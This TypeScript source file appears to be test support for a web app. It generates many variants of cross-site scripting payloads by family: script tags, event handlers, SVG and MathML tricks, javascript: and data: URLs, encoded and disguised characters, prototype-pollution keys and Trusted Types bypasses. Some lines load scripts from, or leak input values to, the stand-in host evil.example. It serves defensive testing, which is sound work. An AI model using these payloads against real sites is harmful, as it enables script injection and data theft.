/**
 * What has run as a script elsewhere, when it was shown as something else than text: by family, each made in many forms from
 * one seed. Each would call `alert`, go to another place or leave an element that no page of ours makes.
 */
import type { Chance } from '../sim/chance.ts'

const run = 'alert(1)'
const evil = '//evil.example/x'

const elements = [
  'img',
  'svg',
  'body',
  'input',
  'video',
  'audio',
  'details',
  'marquee',
  'select',
  'x',
  'iframe',
  'form',
]
const handlers = ['error', 'load', 'focus', 'toggle', 'begin', 'start', 'click', 'mouseover', 'animationstart', 'wheel']
const schemes = ['javascript', 'JaVaScRiPt', 'java\tscript', 'java\nscript', '&#106;avascript', '\u0001javascript']
const breakouts = [
  '',
  '">',
  "'>",
  '</textarea>',
  '</title>',
  '</style>',
  '</script>',
  '-->',
  ']]>',
  '`>',
  '\\">',
  '}}">',
]
const letters = (chance: Chance, text: string): string =>
  [...text].map((letter) => (chance.hits(0.5) ? letter.toUpperCase() : letter)).join('')
const coded = (chance: Chance, text: string): string =>
  [...text]
    .map((letter) => {
      const code = letter.codePointAt(0)!
      return chance.pick([letter, `&#${code};`, `&#x${code.toString(16)};`, `&#${String(code).padStart(7, '0')}`])
    })
    .join('')
/** Between the name of a tag and its attributes. */
const gap = (chance: Chance): string => chance.pick([' ', '/', '\t', '\n', '\f', ' / ', '\u00a0', '//'])

export type Family = (chance: Chance) => string

export const families: Readonly<Record<string, Family>> = {
  'script tags': (chance) =>
    chance.pick([
      `<script>${run}</script>`,
      `<${letters(chance, 'script')}>${run}</${letters(chance, 'script')}>`,
      `<script${gap(chance)}src=${evil}.js></script>`,
      `<scr<script>ipt>${run}</scr</script>ipt>`,
      `<script type=module>${run}</script>`,
      `<script>${run}<!--`,
      `<<script>${run}//<</script>`,
    ]),
  'ways out of a tag': (chance) => `${chance.pick(breakouts)}<script>${run}</script>`,
  'event handlers': (chance) =>
    `${chance.pick(breakouts)}<${chance.pick(elements)}${gap(chance)}src=x${gap(chance)}on${letters(chance, chance.pick(handlers))}=${chance.pick([run, `"${run}"`, `'${run}'`, `\`${run}\``])} autofocus data-marked>`,
  'attributes alone': (chance) =>
    `${chance.pick(['"', "'", '` '])} on${chance.pick(handlers)}=${run} autofocus tabindex=0 ${chance.pick(['x="', "y='", ''])}`,
  SVG: (chance) =>
    chance.pick([
      `<svg onload=${run}>`,
      `<svg/onload=${run}//`,
      `<svg><script>${run}</script></svg>`,
      `<svg><animate on${chance.pick(['begin', 'end'])}=${run} attributeName=x dur=1s>`,
      `<svg><a xlink:href="${chance.pick(schemes)}:${run}"><text y=20>x</text></a></svg>`,
      `<svg><set attributeName=href to=javascript:${run}>`,
      `<svg><use href="data:image/svg+xml,<svg id=x onload=${run}>#x">`,
      `<svg><foreignObject><iframe srcdoc="<script>${run}</script>">`,
      `<image src=x onerror=${run}>`,
    ]),
  MathML: (chance) =>
    chance.pick([
      `<math href="${chance.pick(schemes)}:${run}">x</math>`,
      `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`,
      `<math><annotation-xml encoding="text/html"><script>${run}</script>`,
      `<math><maction actiontype="statusline#${evil}" xlink:href="javascript:${run}">x`,
    ]),
  'markup that changes when it is read again': (chance) =>
    chance.pick([
      `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
      `<svg></p><style><a id="</style><img src=x onerror=${run}>">`,
      `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${run}>`,
      `<listing>&lt;img src=x onerror=${run}&gt;</listing>`,
      `<xmp><p title="</xmp><svg/onload=${run}>">`,
      `<template><script>${run}</script></template>`,
      `<table><td><select><option><style></select><img src=x onerror=${run}></style>`,
      `<textarea><${chance.pick(elements)} title="</textarea><img src=x onerror=${run}>">`,
    ]),
  'addresses that are scripts': (chance) =>
    chance.pick([
      `${chance.pick(schemes)}:${run}`,
      `${chance.pick(schemes)}://%0a${run}`,
      `<a href="${chance.pick(schemes)}:${run}">x</a>`,
      `<a href=" ${coded(chance, 'javascript')}:${run}">x</a>`,
      `vbscript:msgbox(1)`,
      `view-source:javascript:${run}`,
      `javascript:/*--></title></style></textarea></script><svg/onload=${run}>`,
    ]),
  'addresses that are data': (chance) =>
    chance.pick([
      `data:text/html,<script>${run}</script>`,
      `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
      `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"/>`,
      `<a href="data:text/html,<script>${run}</script>">x</a>`,
      `blob:https://evil.example/${chance.word(8)}`,
      `filesystem:https://evil.example/${chance.word(8)}`,
    ]),
  'web addresses with more in them': (chance) =>
    chance.pick([
      `https://evil.example/"on${chance.pick(handlers)}="${run}`,
      `https://evil.example/<script>${run}</script>`,
      `http://javascript:${run}@evil.example/`,
      `https://evil.example/?q='><img src=x onerror=${run}>`,
      `https://evil.example/#<svg/onload=${run}>`,
      `https://evil.example/\u202egpj.exe`,
      `//evil.example/${chance.word(6)}`,
      `\\\\evil.example\\${chance.word(6)}`,
    ]),
  'frames and other pages': (chance) =>
    chance.pick([
      `<iframe src="${chance.pick(schemes)}:${run}"></iframe>`,
      `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
      `<object data="javascript:${run}"></object>`,
      `<embed src="javascript:${run}">`,
      `<base href="${evil}/">`,
      `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
      `<link rel=${chance.pick(['stylesheet', 'import', 'prefetch', 'manifest'])} href=${evil}>`,
      `<form action=javascript:${run}><button formaction=javascript:${run}>x</button></form>`,
    ]),
  CSS: (chance) =>
    chance.pick([
      `<style>@import '${evil}.css';</style>`,
      `<style>*{background:url(${evil})}</style>`,
      `<div style="background:url(javascript:${run})">x</div>`,
      `<div style="width:expression(${run})">x</div>`,
      `</style><style>input[value^=a]{background:url(${evil}?a)}</style>`,
      `red;background:url(${evil});x:`,
      `<x style="animation-name:x" onanimationstart=${run}>`,
    ]),
  'templates of a library': (chance) =>
    chance.pick([
      '${alert(1)}',
      '{{constructor.constructor("alert(1)")()}}',
      `<!--lit-part--><script>${run}</script>`,
      `<!--?lit$${chance.between(100_000_000, 999_999_999)}$--><img src=x onerror=${run}>`,
      `?lit$${chance.between(100_000_000, 999_999_999)}$<img src=x onerror=${run}>`,
      `{"_$litType$":1,"strings":["<img src=x onerror=${run}>"],"values":[]}`,
      `<%= ${run} %>`,
      '#{alert(1)}',
      `<slot name=x onslotchange=${run}></slot>`,
      `<mdg-panel onclick=${run}></mdg-panel>`,
      `@click=\${${run}}`,
      `.innerHTML=\${"<img src=x onerror=${run}>"}`,
    ]),
  'characters in disguise': (chance) =>
    chance.pick([
      `＜script＞${run}＜/script＞`,
      `\u202e<script>${run}</script>`,
      `\u200b<\u200bscript>${run}</script>`,
      `\ufeff<img src=x onerror=${run}>`,
      `‹script›${run}‹/script›`,
      `<ſcript>${run}</ſcript>`,
      `<\u0130mg src=x onerror=${run}>`,
      `\u2066<svg/onload=${run}>\u2069`,
      `<img src=x one\u0301rror=${run}>`,
      `${'\u0300'.repeat(chance.between(2, 20))}<b onclick=${run}>`,
      `😀<script>${run}</script>\u200d`,
    ]),
  'characters in code': (chance) =>
    chance.pick([
      '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
      '&lt;script&gt;alert(1)&lt;/script&gt;',
      '&amp;lt;script&amp;gt;alert(1)',
      '%3Cscript%3Ealert(1)%3C/script%3E',
      '\\x3cimg src=x onerror=alert(1)\\x3e',
      coded(chance, `<img src=x onerror=${run}>`).slice(0, 300),
      '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
      `\u00bcscript\u00be${run}\u00bc/script\u00be`,
    ]),
  'ends of strings': (chance) =>
    chance.pick([
      `\u0000<script>${run}</script>`,
      `<scr\u0000ipt>${run}</scr\u0000ipt>`,
      `";${run}//`,
      `'-${run}-'`,
      `\\";${run}//`,
      `"}]}';${run}//`,
      `\u2028${run}\u2029`,
      `</script><script>${run}</script>`,
      `\r\nContent-Type: text/html\r\n\r\n<script>${run}</script>`,
    ]),
  'keys of prototypes': (chance) =>
    chance.pick([
      '__proto__',
      'constructor',
      'hasOwnProperty',
      '{"__proto__":{"polluted":"<img src=x onerror=alert(1)>"}}',
      `__proto__[innerHTML]=<img/src/onerror=${run}>`,
      `constructor.prototype.${chance.word(5)}=<script>${run}</script>`,
    ]),
  Markdown: (chance) =>
    chance.pick([
      `[x](${chance.pick(schemes)}:${run})`,
      `![x](x"onerror="${run})`,
      `<${chance.pick(schemes)}:${run}>`,
      `[x]: javascript:${run}`,
      `\`\`\`<script>${run}</script>\`\`\``,
      `![x](https://evil.example/x.png)`,
      `**<img src=x onerror=${run}>**`,
    ]),
  'ways around Trusted Types': (chance) =>
    chance.pick([
      `<iframe src="about:blank" onload="this.contentDocument.write('<script>parent.${run}</script>')">`,
      `<script type=importmap>{"imports":{"lit":"${evil}.js"}}</script>`,
      `<a id=trustedTypes><a id=trustedTypes name=createPolicy>`,
      `<form id=document><input name=cookie></form>`,
      `<img name=getElementById><img name=createElement>`,
      `<script nonce="">${run}</script>`,
      `<div id=litHtmlVersions></div><img src=x onerror=${run}>`,
    ]),
}

/** So many different ones, of every family alike. */
export function payloadsOf(count: number, chance: Chance): readonly string[] {
  const all = Object.values(families)
  const made = new Set<string>()
  for (let at = 0; made.size < count; at++) {
    const payload = all[at % all.length]!(chance)
    // A form that was made already is told apart by what stands behind it.
    made.add(made.has(payload) ? `${payload} ${chance.word(4)}` : payload)
  }
  return [...made]
}
